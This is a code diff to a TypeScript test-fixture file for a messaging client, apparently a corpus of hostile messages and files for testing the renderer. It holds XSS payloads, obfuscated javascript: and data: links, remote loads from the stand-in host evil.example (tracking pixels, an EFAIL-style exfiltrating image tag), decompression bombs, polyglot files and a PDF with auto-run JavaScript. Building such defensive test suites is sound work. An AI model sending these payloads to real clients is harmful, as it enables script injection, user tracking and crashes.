@@ -1,9 +1,11 @@
-import { deflateSync } from 'node:zlib';
+import { deflateRawSync } from 'node:zlib';
 import {
   cardinality,
   contactPart,
   disposition,
   eventPart,
+  type FileBody,
+  type LinkPreviewBody,
   linkPreviewPart,
   type Part,
   placePart,
@@ -13,7 +15,7 @@ import {
   unitOf,
 } from '@sotto/protocol/content';
 import { encodeValue as encode } from '../../packages/protocol/src/content/cbor-value.ts';
-import { hugePicture, jpegWithHtml, picture } from './hostile-files.ts';
+import { growingPicture, hugePicture, jpegWithHtml, picture, zerosDeflated } from './hostile-files.ts';
 
 /** What a script of an attacker would do if it ran, and where whatever it loads would come from. */
 const elsewhere = 'https://evil.example';
@@ -32,6 +34,7 @@ export const xss = [
 
 const text = (markdown: string) => textPart(markdown);
 const utf8 = (value: string) => new TextEncoder().encode(value);
+const mebibyte = 1024 * 1024;
 
 /** Messages of a modified client: what each attacks, and how. */
 export const attacks: readonly (readonly [name: string, part: Part])[] = [
@@ -47,6 +50,36 @@ export const attacks: readonly (readonly [name: string, part: Part])[] = [
     text(`![x](${elsewhere}/pixel.png) <img src="${elsewhere}/pixel.png">`),
   ],
   ['a picture that swallows what follows (EFAIL)', text(`<img src="${elsewhere}/?`)],
+  [
+    'pictures from elsewhere in Markdown, by title, by name and by two addresses',
+    text(
+      `![x](${elsewhere}/a.png "t") ![x][r] [![x](${elsewhere}/b.png)](${elsewhere}/c)\n\n[r]: ${elsewhere}/d.png "t"\n\n![x](//evil.example/e.png) ![x](<${elsewhere}/f.png>)`,
+    ),
+  ],
+  [
+    'styles that fetch, in Markdown and in HTML',
+    text(
+      `<style>@import url(${elsewhere}/a.css);body{background:url(${elsewhere}/b.png)}</style>\n<div style="background:url(${elsewhere}/c.png)">x</div>\n[x](${elsewhere}/d "onmouseover=${script}"){style="background:url(${elsewhere}/e.png)"}`,
+    ),
+  ],
+  [
+    'films, sounds, objects and a base from elsewhere',
+    text(
+      `<base href=${elsewhere}/><video autoplay src=${elsewhere}/a.webm poster=${elsewhere}/b.png></video><audio autoplay src=${elsewhere}/c.mp3></audio><object data=${elsewhere}/d></object><embed src=${elsewhere}/e><img srcset="${elsewhere}/f.png 1x"><svg><image href="${elsewhere}/g.png"/></svg>`,
+    ),
+  ],
+  [
+    'schemes in disguise',
+    text(
+      `[a](java\tscript:${script}) [b](&#106;avascript:${script}) [c](\u0001javascript:${script}) [d](JaVaScRiPt:${script}) [e](data:text/html;base64,PHNjcmlwdD4=) [f](blob:${elsewhere}/x) [g](filesystem:${elsewhere}/x) [h](//evil.example/x) [i](\\\\evil.example\\x) [j](view-source:x)\n\n[k][k]\n\n[k]: javascript:${script}`,
+    ),
+  ],
+  [
+    'mentions that are pages',
+    text(
+      `[@${xss.slice(0, 80)}](sotto:person/${elsewhere}) [@x](sotto:person/"><img src=x>) [@x](sotto:javascript)`,
+    ),
+  ],
   [
     'styles, frames and forms from elsewhere',
     text(
@@ -64,11 +97,10 @@ export const attacks: readonly (readonly [name: string, part: Part])[] = [
   ['code fences', text('`'.repeat(30_000))],
   ['marks above marks', text(`Z${'\u0352\u035B\u0321'.repeat(20_000)}`)],
   ['text turned around', text(`invoice ${turned}`)],
-  [
-    'a text that grows to 64 MiB',
-    compressed(deflateSync(Buffer.alloc(50 * 1024 * 1024), { level: 9 }), 200_000),
-  ],
-  ['a text that is longer than it says', compressed(deflateSync(Buffer.alloc(100_000, 97)), 10)],
+  // As much as one message has room for; the format itself grows no more than a thousandfold.
+  ['a text that grows to 60 MiB', compressed(zerosDeflated(60 * mebibyte), 200_000)],
+  ['a text that says it is a gigabyte', compressed(zerosDeflated(60 * mebibyte), 1024 * mebibyte)],
+  ['a text that is longer than it says', compressed(deflateRawSync(Buffer.alloc(100_000, 97)), 10)],
   [
     'a poll of 10,000 answers',
     pollPart({
@@ -156,35 +188,25 @@ export const attacks: readonly (readonly [name: string, part: Part])[] = [
       ),
     ),
   ],
+  ['a preview of a page that is a script', preview({ url: `javascript:${script}` })],
+  ['a preview of a page that is data', preview({ url: `data:text/html,<script>${script}</script>` })],
   [
-    'a preview of a page that is a script',
-    unitOf([
-      text('see'),
-      linkPreviewPart({
-        url: `javascript:${script}`,
-        title: xss,
-        description: xss,
-        siteName: xss,
-        image: null,
-      }),
-    ]),
+    'a preview with XSS in every field',
+    preview({ url: `https://a.example/"><img/src=x/onerror="${script}">?'onmouseover='${script}` }),
   ],
+  ['a preview that is turned around', preview({ title: turned, siteName: `bank.example${turned}` })],
   [
     'a preview whose picture is SVG',
-    unitOf([
-      text('see https://a.example/'),
-      linkPreviewPart({
-        url: 'https://a.example/',
-        title: 'x',
-        description: '',
-        siteName: '',
-        image: {
-          mediaType: 'image/png',
-          bytes: utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`),
-        },
-      }),
-    ]),
+    preview(
+      {},
+      utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${elsewhere}/x"/></svg>`),
+    ),
   ],
+  [
+    'a preview whose picture is HTML too',
+    preview({}, jpegWithHtml(`<script>${script}</script>`), 'image/jpeg'),
+  ],
+  ['a preview whose picture is 30,000 by 30,000', preview({}, hugePicture(30_000, 20_000))],
   ['HTML as the body', single(disposition.render, 'text/html', utf8(`<html><body>${xss}</body></html>`))],
   [
     'SVG as the body',
@@ -228,7 +250,7 @@ export const attacks: readonly (readonly [name: string, part: Part])[] = [
 export const fileAttacks: readonly (readonly [
   name: string,
   bytes: Uint8Array,
-  said: { mediaType: string; name: string },
+  said: Pick<FileBody, 'mediaType' | 'name'> & Partial<FileBody>,
 ])[] = [
   [
     'SVG as a picture',
@@ -274,7 +296,90 @@ export const fileAttacks: readonly (readonly [
     utf8(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`),
     { mediaType: 'application/pdf', name: 'order.pdf' },
   ],
+  [
+    'a picture of eight by eight whose pixels grow to a gigabyte',
+    growingPicture(1024 * mebibyte),
+    { mediaType: 'image/png', name: 'small.png' },
+  ],
+  [
+    'a picture of 30,000 by 30,000 that opens once',
+    hugePicture(30_000),
+    { mediaType: 'image/png', name: 'once.png', viewOnce: true },
+  ],
+  [
+    'SVG that opens once',
+    utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`),
+    { mediaType: 'image/png', name: 'once.svg', viewOnce: true },
+  ],
+  [
+    'a picture whose small one is 30,000 by 30,000',
+    picture(),
+    {
+      mediaType: 'image/png',
+      name: 'large.png',
+      description: xss,
+      preview: { mediaType: 'image/png', bytes: hugePicture(30_000, 12_000) },
+    },
+  ],
+  [
+    'HTML that says it is a film',
+    utf8(`<html><script>${script}</script></html>`),
+    { mediaType: 'video/webm', name: 'film.webm', description: xss },
+  ],
+  [
+    'a film that goes on as HTML',
+    new Uint8Array([0x1a, 0x45, 0xdf, 0xa3, ...utf8(`<html><script>${script}</script></html>`)]),
+    { mediaType: 'video/webm', name: 'film.webm' },
+  ],
+  [
+    'a film that is a list of films elsewhere',
+    utf8(`#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${elsewhere}/a.ts\n#EXT-X-ENDLIST\n`),
+    { mediaType: 'video/mp4', name: 'film.mp4' },
+  ],
+  [
+    'a film whose pieces are elsewhere',
+    filmElsewhere(),
+    { mediaType: 'video/mp4', name: 'elsewhere.mp4', preview: { mediaType: 'image/png', bytes: picture() } },
+  ],
+  [
+    'HTML that says it is a voice note',
+    utf8(`<html><script>${script}</script></html>`),
+    { mediaType: 'audio/ogg', name: 'voice.ogg', voiceNote: true, waveform: new Uint8Array(64).fill(255) },
+  ],
 ];
+
+/** What says that it is an MP4 film and that its data is at an address. */
+function filmElsewhere(): Uint8Array {
+  const box = (type: string, ...parts: Uint8Array[]) => {
+    const body = Buffer.concat(parts);
+    const head = Buffer.alloc(8);
+    head.writeUInt32BE(body.length + 8, 0);
+    head.write(type, 4, 'latin1');
+    return Buffer.concat([head, body]);
+  };
+  const url = box('url ', Buffer.alloc(4), utf8(`${elsewhere}/pieces.mp4\0`));
+  const references = box('dref', Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), url);
+  const media = box('mdia', box('minf', box('dinf', references)));
+  return new Uint8Array(
+    Buffer.concat([box('ftyp', utf8('isom\0\0\0\0isommp42')), box('moov', box('trak', media))]),
+  );
+}
+
+/** A text and what its sender says the page behind its link looks like. */
+function preview(
+  said: Partial<LinkPreviewBody>,
+  bytes: Uint8Array | null = null,
+  mediaType: 'image/png' | 'image/jpeg' = 'image/png',
+): Part {
+  const page = {
+    url: 'https://a.example/',
+    title: xss.slice(0, 300),
+    description: xss,
+    siteName: xss.slice(0, 100),
+  };
+  const image = bytes === null ? null : { mediaType, bytes };
+  return unitOf([text('see https://a.example/'), linkPreviewPart({ ...page, image, ...said })]);
+}
 
 function compressed(deflated: Uint8Array, length: number): Part {
   return single(
